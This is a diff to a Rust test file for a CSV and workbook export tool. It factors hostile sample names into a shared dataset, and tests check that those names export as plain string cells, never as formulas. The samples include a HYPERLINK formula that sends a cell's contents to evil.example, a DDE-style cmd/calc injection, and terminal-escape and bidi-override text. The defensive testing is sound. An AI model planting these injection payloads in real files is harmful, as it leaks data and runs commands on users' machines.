@@ -296,14 +296,32 @@ fn the_workbook_is_the_listing_on_a_generated_dataset() {
     check_workbook_against_listing(&Desk::with(&generated(3000)));
 }
 
+/// The built-in dataset with names and a note that a spreadsheet or a terminal would act on.
+fn hostile() -> Dataset {
+    let mut dataset = htx::store::builtin().unwrap();
+    dataset.cooperatives[0].name = FORMULA.to_owned();
+    dataset.cooperatives[1].name = "HTX \u{1b}[31mĐỏ\u{7} \u{202e}lật".to_owned();
+    dataset.cooperatives[2].name = "@SUM(1+1)*cmd|' /C calc'!A0".to_owned();
+    dataset.plan.items[0].progress[0].note = "_x0041_ là chữ, không phải A\n-2+3".to_owned();
+    dataset
+}
+
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
+
 #[test]
 fn csv_is_byte_for_byte_the_listing() {
-    let desk = Desk::new();
+    for desk in [Desk::new(), Desk::with(&hostile())] {
+        csv_is_the_listing(&desk);
+    }
+}
+
+fn csv_is_the_listing(desk: &Desk) {
     for (_, kind) in KINDS {
         let listing = desk.ok(&["list", kind, "--format", "csv"]);
         let export = desk.ok(&["export", "--kind", kind, "--format", "csv"]);
         assert!(!listing.stdout.is_empty());
-        assert_eq!(export.stdout, listing.stdout, "{kind} on stdout");
+        assert_eq!(stdout(&export), stdout(&listing), "{kind} on stdout");
+        assert!(export.stdout == listing.stdout, "{kind}: not byte for byte");
         let file = format!("{kind}.csv");
         desk.ok(&["export", "--kind", kind, "--format", "csv", "-o", &file]);
         assert_eq!(
@@ -373,12 +391,8 @@ fn an_export_imports_back_as_nothing_to_do() {
 
 #[test]
 fn hostile_texts_are_string_cells_never_formulas() {
-    let mut dataset = htx::store::builtin().unwrap();
-    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
-    dataset.cooperatives[0].name = formula.to_owned();
-    dataset.cooperatives[1].name = "HTX \u{1b}[31mĐỏ\u{7} \u{202e}lật".to_owned();
-    dataset.cooperatives[2].name = "@SUM(1+1)*cmd|' /C calc'!A0".to_owned();
-    dataset.plan.items[0].progress[0].note = "_x0041_ là chữ, không phải A\n-2+3".to_owned();
+    let dataset = hostile();
+    let formula = FORMULA;
     let ids: Vec<String> = dataset.cooperatives[..3]
         .iter()
         .map(|c| c.id.clone())
